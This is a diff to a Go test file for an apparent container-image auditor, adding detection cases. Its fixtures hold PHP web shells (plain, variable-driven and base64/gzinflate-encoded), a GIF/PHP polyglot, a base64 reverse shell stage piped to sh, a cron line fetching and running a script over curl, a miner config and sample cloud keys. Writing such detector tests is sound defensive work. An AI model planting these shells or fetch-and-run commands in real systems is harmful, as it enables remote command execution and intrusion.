@@ -3,6 +3,7 @@ package audit_test
 import (
 	"bytes"
 	"context"
+	"encoding/base64"
 	"fmt"
 	"io"
 	"strings"
@@ -28,10 +29,16 @@ const (
 	cronFetch        = "*/5 * * * * root curl -fsSL http://203.0.113.45/a.sh | sh\n"
 	minerConfig      = `{"autosave": true, "pools": [{"algo": "rx/0", "url": "pool.example.org:443", "user": "worker-01", "pass": "x"}]}` + "\n"
 	phpWebshell      = "<?php system($_GET['cmd']); ?>\n"
+	simpleBackdoor   = "<!-- Simple PHP backdoor -->\n<?php\nif(isset($_REQUEST['cmd'])){\n        echo \"<pre>\";\n        $cmd = ($_REQUEST['cmd']);\n        system($cmd);\n        echo \"</pre>\";\n        die;\n}\n?>\n"
+	encodedShell     = "<?php /* cache */ @eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>\n"
 	sshKey           = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2l0M3j1b9Y8v9z0bq7l5u6o3o1vJc3gk2d4m2s8r9x deploy@ci\n"
 	awsKeyID         = "AKIAQ3EGRTSWV4MZLX7P"
 	awsSecret        = "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"
 )
+
+// gifPolyglot is a valid one-pixel GIF with a PHP page in its comment extension.
+var gifPolyglot = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xfe\x1c<?php system($_GET['c']); ?>\x00" +
+	",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
 
 func pemKey() string {
 	line := strings.Repeat("MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun", 1)
@@ -107,7 +114,23 @@ func TestCategories(t *testing.T) {
 			want:  []want{{rule: "STRATA-MN-003", category: audit.CategoryMiner, severity: audit.High, layer: 6, path: "/opt/tools/config.json"}}},
 		{name: "PHP web shell",
 			image: demoPlus(layer("COPY html /var/www/html # buildkit", imagebuild.Reg("var/www/html/status.php", phpWebshell))),
-			want:  []want{{rule: "STRATA-WS-001", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6, path: "/var/www/html/status.php"}}},
+			want:  []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6, path: "/var/www/html/status.php"}}},
+		{name: "PHP web shell through a variable",
+			image: demoPlus(layer("COPY html /var/www/html # buildkit", imagebuild.Reg("var/www/html/simple-backdoor.php", simpleBackdoor))),
+			want: []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6,
+				path: "/var/www/html/simple-backdoor.php", title: "system()"}}},
+		{name: "GIF/PHP polyglot",
+			image: demoPlus(layer("COPY uploads /var/www/html/uploads # buildkit", imagebuild.RegBytes("var/www/html/uploads/avatar.gif", gifPolyglot))),
+			want: []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6,
+				path: "/var/www/html/uploads/avatar.gif", title: "polyglot: GIF image with a PHP page inside"}}},
+		{name: "base64-encoded reverse shell stage",
+			image: demoPlus(layer("COPY stage.sh /opt/ # buildkit", imagebuild.Reg("opt/stage.sh", "#!/bin/sh\necho "+base64.StdEncoding.EncodeToString([]byte(bashReverseShell))+" | base64 -d | sh\n").WithMode(0o755))),
+			want: []want{{rule: "STRATA-RS-001", category: audit.CategoryReverseShell, severity: audit.Critical, layer: 6,
+				path: "/opt/stage.sh", title: "(decoded: base64)"}}},
+		{name: "encoded PHP web shell",
+			image: demoPlus(layer("COPY html /var/www/html # buildkit", imagebuild.Reg("var/www/html/wp-cache.php", encodedShell))),
+			want: []want{{rule: "STRATA-WS-101", category: audit.CategoryWebshell, severity: audit.Critical, layer: 6,
+				path: "/var/www/html/wp-cache.php", title: "decoded: base64 > gzinflate"}}},
 		{name: "AWS key and private key",
 			image: demoPlus(layer("COPY . /app # buildkit",
 				imagebuild.Reg("app/.env", "AWS_ACCESS_KEY_ID="+awsKeyID+"\nAWS_SECRET_ACCESS_KEY="+awsSecret+"\n"),
